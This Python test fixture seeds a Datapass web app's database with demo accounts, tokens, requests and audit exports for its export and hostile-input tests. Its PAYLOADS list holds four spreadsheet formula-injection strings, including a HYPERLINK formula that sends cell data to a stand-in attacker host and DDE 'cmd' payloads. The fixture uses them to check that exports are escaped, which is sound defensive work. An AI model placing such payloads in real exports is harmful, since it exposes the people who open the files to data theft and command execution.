"""A populated Datapass for the export and hostile-input tests, committed for real (each request
of the test client then opens and tears down its own app context and session, as a served
request does: a bug that only shows once the view's session is gone shows here).

Built once per module and database: the demo (an account per role, the catalogue, requests in
every state) plus, for each formula payload, an organisation and a member of that name, a
submitted request of that title, a token in every list of the security dashboard, usage
reported on an endpoint of that name; and one audit export per format.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass, field
from datetime import timedelta
from types import SimpleNamespace

from sqlalchemy import select

from datapass import clock
from datapass.actor import Actor
from datapass.extensions import db
from tests import factories
from tests.conftest import FROZEN_AT, _empty_tables, login

# Cells that a spreadsheet would run as formulas (OWASP "CSV injection"), one per prefix.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"voir")',
    "+33 1 23 45 67 89+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
# E-mail addresses may start like a formula too (the audit log's actor labels).
EMAILS = tuple(f"{p[0]}membre{n}@formule.example" for n, p in enumerate(PAYLOADS))
ROLES = ("applicant", "instructor", "security_officer", "admin")


@dataclass
class World:
    sessions: dict[str, str] = field(default_factory=dict)  # role → Flask-Login session id
    user_ids: dict[str, int] = field(default_factory=dict)
    ids: dict[str, int] = field(default_factory=dict)  # URL parameter name → a real id
    api_id: int = 0
    payload_token_id: int = 0  # a token of a payload organisation, with usage
    export_ids: dict[str, int] = field(default_factory=dict)  # format → audit export id
    client_id: str = ""
    client_secret: str = ""
    texts: dict[tuple[str, str], str] = field(default_factory=dict)  # (endpoint, param) → text
    victim_id: int = 0  # a user the admin routes may deactivate, strip of roles…
    victim_client_id: int = 0  # a machine client the admin routes may revoke

    @property
    def basic(self) -> str:
        """The demo machine client's HTTP Basic credentials."""
        pair = f"{self.client_id}:{self.client_secret}".encode()
        return "Basic " + base64.b64encode(pair).decode()

    def client(self, app, role: str | None):
        """A test client signed in as ``role`` (None: anonymous)."""
        client = app.test_client()
        if role is not None:
            login(client, SimpleNamespace(get_id=lambda: self.sessions[role]))
        return client


def build(app) -> World:
    """Seed the world (commits). Call with no app context pushed; none is left pushed."""
    clock.set_frozen(FROZEN_AT)
    with app.app_context():
        _empty_tables()
        world = _seed()
        db.session.commit()
        db.session.remove()
    return world


def destroy(app) -> None:
    with app.app_context():
        db.session.remove()
        _empty_tables()
        db.session.remove()


def _seed() -> World:
    from datapass import demo
    from datapass.accounts.models import User
    from datapass.audit import exports
    from datapass.audit.search import AuditFilter
    from datapass.authorizations import decisions as authorization_decisions
    from datapass.authorizations.models import Habilitation
    from datapass.consumption import ingest
    from datapass.tokens import issuance as token_issuance
    from datapass.tokens import transitions as token_transitions
    from tests.lifecycle.conftest import expiring_token, issue

    result = demo.run_demo()
    world = World()
    for role in ROLES:
        email = result["accounts"][role]["email"]
        user = db.session.scalar(select(User).where(User.email == email))
        if role != "applicant":
            factories.enable_totp(user)
        world.user_ids[role] = user.id
        world.sessions[role] = user.get_id()
    world.client_id = result["provider_client"]["client_id"]
    world.client_secret = result["provider_client"]["client_secret"]
    habilitation = db.session.get(Habilitation, result["habilitation"]["id"])
    api = habilitation.api
    world.api_id = api.id
    officer = Actor.for_user(db.session.get(User, world.user_ids["security_officer"]))
    now = clock.now()
    events = []
    for n, payload in enumerate(PAYLOADS):
        organisation = factories.organisation(name=payload)
        member = factories.user(EMAILS[n], organisation=organisation, full_name=payload)
        request = factories.filled_request(api, organisation, member, title=payload)
        authorization_decisions.submit(request, Actor.for_user(member))
        owned = {"organisation": organisation, "requester": member}
        expiring_token(api, days_left=20, **owned)
        used = expiring_token(api, days_left=60, **owned)
        rotated = expiring_token(api, days_left=300, **owned)
        token_issuance.rotate(rotated, Actor.for_user(member), 10)
        token_transitions.suspend(expiring_token(api, days_left=300, **owned), officer, payload)
        issue(api, now - timedelta(days=90), **owned)  # unused for 90 days
        token_transitions.revoke(expiring_token(api, days_left=300, **owned), officer, payload)
        for k in range(3):
            events.append(
                {
                    "id": f"monde-{n}-{k}",
                    "token": used.jti,
                    "time": (now - timedelta(hours=k + 1)).isoformat(),
                    "endpoint": payload,
                    "status": 200 if k else 500,
                    "latency_ms": 12,
                }
            )
        if n == 0:  # a member of a payload organisation (its token's consumption)
            world.sessions["member"] = member.get_id()
            world.payload_token_id = used.id
    ingest.ingest_usage(api.provider_id, events)
    db.session.flush()
    for fmt in exports.FORMATS:
        world.export_ids[fmt] = exports.create_export(AuditFilter(), fmt, officer).id
    db.session.flush()
    _confirmed_renewal_world(world, officer)
    victim = factories.staff("instructor", api=api, full_name="Victime des routes d'admin")
    world.victim_id = victim.id
    from datapass.catalogue import clients as catalogue_clients

    world.victim_client_id = catalogue_clients.create_client(api.provider, "Victime")[0].id
    db.session.flush()
    world.ids = _ids(world)
    world.texts = {
        ("catalogue.api_detail", "slug"): api.slug,
        ("authorizations.act", "event"): "submit",
        ("authorizations.edit_section", "section"): "projet",
        ("lifecycle.dashboard_csv", "name"): "expiring-30",
    }
    return world


def _confirmed_renewal_world(world: World, actor: Actor) -> None:
    """An API whose renewals an instructor confirms, with one renewal waiting; its provider's
    webhook endpoint (a name that never resolves: RFC 6761) and deliveries; a message template
    of the demo instructor."""
    from datapass import vault
    from datapass.accounts.models import User
    from datapass.authorizations import templates as authorization_templates
    from datapass.demo import accounts as demo_accounts
    from datapass.lifecycle import renewal as renewals
    from datapass.notify import http as webhook_http
    from datapass.notify.models import WebhookEndpoint
    from tests.lifecycle.conftest import expiring_token
    from tests.tokens.conftest import make_api, make_provider

    now = clock.now()
    provider = make_provider()
    api = make_api(provider, renewal_policy="instructor")
    db.session.add(
        WebhookEndpoint(
            provider_id=provider.id,
            url="https://crochets.datapass.invalid/datapass",
            secret_sealed=vault.seal(b"secret-du-crochet", webhook_http.WEBHOOK_SEAL),
            events=[],
            state="enabled",
            verified_at=now,
            consecutive_failures=0,
            created_at=now,
            updated_at=now,
        )
    )
    instructor = db.session.get(User, world.user_ids["instructor"])
    applicant = db.session.get(User, world.user_ids["applicant"])
    demo_accounts.grant_demo_instructor(instructor)
    organisation = applicant.current_organisation
    token = expiring_token(api, days_left=40, organisation=organisation, requester=applicant)
    habilitation = token.habilitation
    answers = renewals.RenewalAnswers(
        True, True, True, renewals.current_contacts(habilitation), list(habilitation.scopes)
    )
    renewals.renew(token, Actor.for_user(applicant), answers)
    authorization_templates.save_template(
        instructor, Actor.for_user(instructor), api.id, "=Modèle", "Précisez la finalité."
    )
    db.session.flush()


def _ids(world: World) -> dict[str, int]:
    """One real id per URL parameter name, so that the hostile walk reaches the forms."""
    from datapass.accounts.models import Organisation, RoleGrant, User
    from datapass.audit.models import AuditEvent
    from datapass.authorizations.models import (
        AuthorizationRequest,
        Document,
        Habilitation,
        MessageTemplate,
    )
    from datapass.catalogue.models import Provider, Scope
    from datapass.lifecycle.models import Renewal
    from datapass.notify.models import OutboxMail, WebhookDelivery, WebhookEndpoint
    from datapass.tokens.models import AccessToken

    def first(column, *where):
        return db.session.scalar(select(column).where(*where).order_by(column).limit(1))

    demo_org = db.session.get(User, world.user_ids["applicant"]).current_organisation_id
    request_id = first(AuthorizationRequest.id, AuthorizationRequest.organisation_id == demo_org)
    ids = {
        "api_id": world.api_id,
        "request_id": request_id,
        "document_id": first(Document.id),
        "habilitation_id": first(Habilitation.id, Habilitation.organisation_id == demo_org),
        "token_id": first(AccessToken.id, AccessToken.organisation_id == demo_org),
        "user_id": world.victim_id,
        "grant_id": first(RoleGrant.id, RoleGrant.user_id == world.victim_id),
        "organisation_id": demo_org or first(Organisation.id),
        "provider_id": first(Provider.id),
        "client_id": world.victim_client_id,
        "scope_id": first(Scope.id),
        "mail_id": first(OutboxMail.id),
        "endpoint_id": first(WebhookEndpoint.id),
        "delivery_id": first(WebhookDelivery.id),
        "renewal_id": first(Renewal.id),
        "seq": first(AuditEvent.seq),
        "export_id": world.export_ids["csv"],
        "template_id": first(MessageTemplate.id),
    }
    return {k: v for k, v in ids.items() if v is not None}
